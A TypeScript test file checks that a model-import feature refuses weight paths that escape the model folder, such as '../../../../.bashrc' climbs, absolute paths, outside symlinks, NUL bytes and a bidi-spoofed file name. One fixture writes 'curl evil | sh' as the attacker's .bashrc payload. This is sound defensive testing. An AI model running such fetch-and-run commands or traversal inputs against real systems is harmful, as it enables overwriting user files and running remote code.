/**
 * A model folder is input from outside: every file its model.json names must stay inside it (after links are
 * followed), every copy must land inside the library's temporary folder, and a refused import leaves nothing.
 * The data folder sits in a temporary HOME: a test that escaped would hit that HOME's .bashrc, never the real one.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AppError } from '../../common/app-error';
import { nowIso, openDatabase, type Db } from '../store/database';
import { CATALOGUE, type CatalogueItem } from './catalogue';
import { ModelLibrary } from './model-library';
import { diskIoHandler, readModelJson } from './tfjs-runtime';

let work: string;
let home: string;
let dataDir: string;
let outside: string;
let db: Db;
let library: ModelLibrary;

beforeEach(() => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'kraken-model-lib-'));
  home = path.join(work, 'home');
  // <home>/.config/kraken/models/.<id>.partial: four levels below home, as "../../../../.bashrc" needs.
  dataDir = path.join(home, '.config', 'kraken');
  outside = path.join(work, 'outside');
  fs.mkdirSync(dataDir, { recursive: true });
  fs.mkdirSync(outside);
  fs.writeFileSync(path.join(home, '.bashrc'), 'original\n');
  fs.writeFileSync(path.join(outside, 'secret.bin'), 'secret bytes');
  db = openDatabase(path.join(dataDir, 'studio.db'));
  library = new ModelLibrary(db, dataDir, [catalogueEntry('../../escaped'), catalogueEntry('fine-model')]);
});
afterEach(() => {
  db.close();
  fs.rmSync(work, { recursive: true, force: true });
});

function catalogueEntry(id: string): CatalogueItem {
  return {
    id,
    name: id,
    task: 'classification',
    description: '',
    url: 'http://127.0.0.1:9/x.onnx',
    sizeBytes: 1,
    sha256: '0'.repeat(64),
    licence: 'MIT',
    licenceUrl: null,
    manifest: {
      normalization: { layout: 'NCHW', channelOrder: 'RGB', scale: 1, mean: [0, 0, 0], std: [1, 1, 1], resize: 'stretch', dtype: 'float32' },
      postprocess: { kind: 'softmax', scoreThreshold: 0.3, iouThreshold: 0.45, topK: 5, maxDetections: 100, minMaxMask: false, inverseDepth: true },
      labels: [],
      maxSide: 2,
      sizeMultiple: 1,
    },
  };
}

/** A TF.js graph model folder whose model.json names `paths` as weight files (one 2×2×3 → 2 classifier signature). */
function tfjsFolder(folder: string, paths: string[]): string {
  fs.mkdirSync(folder, { recursive: true });
  const dim = (n: number) => ({ size: String(n) });
  const modelJson = {
    format: 'graph-model',
    modelTopology: { node: [] },
    signature: {
      inputs: { x: { name: 'x:0', dtype: 'DT_FLOAT', tensorShape: { dim: [dim(-1), dim(2), dim(2), dim(3)] } } },
      outputs: { y: { name: 'y:0', dtype: 'DT_FLOAT', tensorShape: { dim: [dim(-1), dim(2)] } } },
    },
    weightsManifest: [{ paths, weights: [] }],
  };
  fs.writeFileSync(path.join(folder, 'model.json'), JSON.stringify(modelJson));
  return folder;
}

/** Every file under `dir` (relative), for "nothing was written" checks. */
function tree(dir: string): string[] {
  return fs.existsSync(dir) ? (fs.readdirSync(dir, { recursive: true }) as string[]).sort() : [];
}

async function expectRefusedImport(folder: string, why: RegExp): Promise<void> {
  const before = { home: tree(home), outside: tree(outside) };
  const err = await library.importModel({ path: folder, task: 'classification' }).catch((e: unknown) => e);
  expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('original\n');
  expect(err).toBeInstanceOf(AppError);
  expect((err as AppError).code).toBe('MODEL_INVALID');
  expect((err as AppError).message).toMatch(why);
  expect(tree(outside)).toEqual(before.outside);
  // No model row and no folder, finished or partial, under models/.
  expect(tree(path.join(dataDir, 'models'))).toEqual([]);
  expect(db.prepare('SELECT COUNT(*) AS n FROM models').get()).toEqual({ n: 0 });
  expect(tree(home).filter((f) => !f.startsWith(path.join('.config', 'kraken', 'studio.db')))).toEqual(before.home.filter((f) => !f.startsWith(path.join('.config', 'kraken', 'studio.db'))));
}

describe('TF.js model import refuses weight paths that leave the model folder', () => {
  it('"../../../../.bashrc" (which today overwrote the HOME .bashrc through the copy)', async () => {
    // The attacker ships <attack>/.bashrc and a model folder four levels below it.
    const attack = path.join(work, 'attack');
    fs.mkdirSync(attack);
    fs.writeFileSync(path.join(attack, '.bashrc'), 'curl evil | sh\n');
    const folder = tfjsFolder(path.join(attack, 'a', 'b', 'c', 'model'), ['../../../../.bashrc']);
    await expectRefusedImport(folder, /"\.\."/);
  });

  it('the same climb written with backslashes', async () => {
    const folder = tfjsFolder(path.join(work, 'a', 'b', 'c', 'model'), ['..\\..\\..\\..\\.bashrc']);
    await expectRefusedImport(folder, /"\.\."/);
  });

  it('an absolute path (even where a file of that name exists inside the folder)', async () => {
    const abs = path.join(outside, 'secret.bin');
    const folder = tfjsFolder(path.join(work, 'abs-model'), [abs]);
    // Today path.join(folder, abs) quietly read <folder>/<abs>: make that exist so only the rule can refuse.
    fs.mkdirSync(path.dirname(path.join(folder, abs)), { recursive: true });
    fs.writeFileSync(path.join(folder, abs), 'w');
    await expectRefusedImport(folder, /absolute/);
  });

  it('a drive letter', async () => {
    const folder = tfjsFolder(path.join(work, 'drive-model'), ['C:w.bin']);
    fs.writeFileSync(path.join(folder, 'C:w.bin'), 'w');
    await expectRefusedImport(folder, /drive letter/);
  });

  it('a symbolic link that leads outside (a file, and a folder)', async () => {
    const folder = tfjsFolder(path.join(work, 'link-model'), ['w.bin']);
    fs.symlinkSync(path.join(outside, 'secret.bin'), path.join(folder, 'w.bin'));
    await expectRefusedImport(folder, /outside/);
    const folder2 = tfjsFolder(path.join(work, 'link-dir-model'), ['group/secret.bin']);
    fs.symlinkSync(outside, path.join(folder2, 'group'));
    await expectRefusedImport(folder2, /outside/);
  });

  it('a NUL in a weight path', async () => {
    const folder = tfjsFolder(path.join(work, 'nul-model'), ['w.bin\u0000.png']);
    await expectRefusedImport(folder, /control character/);
  });

  it('the run-time loader applies the same rule to a model.json changed after import', async () => {
    const folder = tfjsFolder(path.join(work, 'later'), ['w.bin']);
    fs.symlinkSync(path.join(outside, 'secret.bin'), path.join(folder, 'w.bin'));
    expect(() => readModelJson(path.join(folder, 'model.json'))).toThrow(/outside/);
    await expect(diskIoHandler(path.join(folder, 'model.json')).load!()).rejects.toMatchObject({ code: 'MODEL_INVALID' });
  });
});

describe('TF.js model import of a good folder', () => {
  it('copies weights in sub-folders and links that stay inside, into the library only', async () => {
    const folder = tfjsFolder(path.join(work, 'good'), ['group1/w1.bin', './w2.bin', 'alias.bin']);
    fs.mkdirSync(path.join(folder, 'group1'));
    fs.writeFileSync(path.join(folder, 'group1', 'w1.bin'), 'one');
    fs.writeFileSync(path.join(folder, 'w2.bin'), 'two');
    fs.symlinkSync(path.join(folder, 'w2.bin'), path.join(folder, 'alias.bin'));
    const m = await library.importModel({ path: folder, task: 'classification', name: 'Good' });
    const dir = path.dirname(m.location);
    expect(m.runtime).toBe('tfjs');
    expect(fs.readFileSync(path.join(dir, 'group1', 'w1.bin'), 'utf8')).toBe('one');
    expect(fs.readFileSync(path.join(dir, 'w2.bin'), 'utf8')).toBe('two');
    // A link inside the folder is copied as its content, not as a link.
    expect(fs.lstatSync(path.join(dir, 'alias.bin')).isSymbolicLink()).toBe(false);
    expect(tree(path.join(dataDir, 'models'))).toEqual([m.id, path.join(m.id, 'alias.bin'), path.join(m.id, 'group1'), path.join(m.id, 'group1', 'w1.bin'), path.join(m.id, 'model.json'), path.join(m.id, 'w2.bin')].sort());
  });

  it('refuses a model name with a bidirectional override', async () => {
    const folder = tfjsFolder(path.join(work, 'named'), []);
    await expect(library.importModel({ path: folder, task: 'classification', name: 'cat\u202Egpj.exe' })).rejects.toMatchObject({ code: 'INVALID_INPUT' });
  });
});

describe('names from the catalogue and the library rows', () => {
  it('a catalogue id cannot place a model folder outside models/', () => {
    expect(() => library.modelDir('../../escaped')).toThrow(AppError);
    expect(library.modelDir('fine-model')).toBe(path.join(dataDir, 'models', 'fine-model'));
  });

  it('a library row whose folder is not under models/ loses its row on remove, and nothing outside models/ is deleted', () => {
    const victim = path.join(dataDir, 'precious');
    fs.mkdirSync(victim);
    fs.writeFileSync(path.join(victim, 'keep.txt'), 'keep');
    db.prepare(`INSERT INTO models (id, source, manifest_json, dir, created_at) VALUES ('bad', 'imported', '{}', '../kraken/precious', ?)`).run(nowIso());
    db.prepare(`INSERT INTO models (id, source, manifest_json, dir, created_at) VALUES ('bad2', 'imported', '{}', 'precious', ?)`).run(nowIso());
    expect(library.remove('bad')).toBe(true);
    expect(library.remove('bad2')).toBe(true);
    expect(fs.readFileSync(path.join(victim, 'keep.txt'), 'utf8')).toBe('keep');
  });
});

describe('the catalogue sends each description with its code (the Models page translates it)', () => {
  it('the shipped catalogue: every entry keeps its descriptionCode; a test entry without one has none', () => {
    const shipped = new ModelLibrary(db, dataDir, CATALOGUE).catalogue();
    expect(shipped.length).toBeGreaterThan(0);
    for (const e of shipped) expect(e.descriptionCode, e.id).toBe(`model.${e.id}`);
    expect(library.catalogue().every((e) => !('descriptionCode' in e))).toBe(true);
  });
});
